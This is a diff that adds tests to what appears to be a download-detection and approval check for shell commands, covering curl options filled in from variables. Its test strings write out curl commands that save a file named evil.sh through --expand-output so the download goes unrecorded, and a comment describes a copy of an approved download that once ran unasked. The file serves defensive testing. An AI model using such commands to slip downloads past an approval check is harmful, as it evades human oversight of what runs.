@@ -648,6 +648,26 @@ describe("a downloader named by an expansion", () => {
   });
 });
 
+// curl 8.3's --expand-<option> fills an option's value from a --variable (a file, the environment):
+// --expand-output '{{n}}' wrote evil.sh unrecorded.
+describe("a curl option filled in from a variable", () => {
+  it.each([
+    "curl --variable n=evil.sh --expand-output '{{n}}' https://x.test/a",
+    "curl --variable n@name.txt --expand-dump-header '{{n}}' https://x.test/a",
+    "curl -O --variable %U --expand-url '{{U}}'",
+  ])("asks before %s", (command) => {
+    expect(lineDownloads(command).unplaced).toBe(true);
+    expect(downloadExecution(command, new Set())).toBeDefined();
+  });
+
+  it("leaves one that writes nothing alone", () => {
+    expect(lineDownloads("curl --variable x=1 --expand-data '{{x}}' https://x.test/a")).toEqual({
+      targets: [],
+      unplaced: false,
+    });
+  });
+});
+
 // A copy of a recorded download in a later command asked (it names the download) but, once a person
 // approved it, was not recorded, so running the copy later passed unasked: the copy is recorded too.
 describe("a later copy of a recorded download", () => {
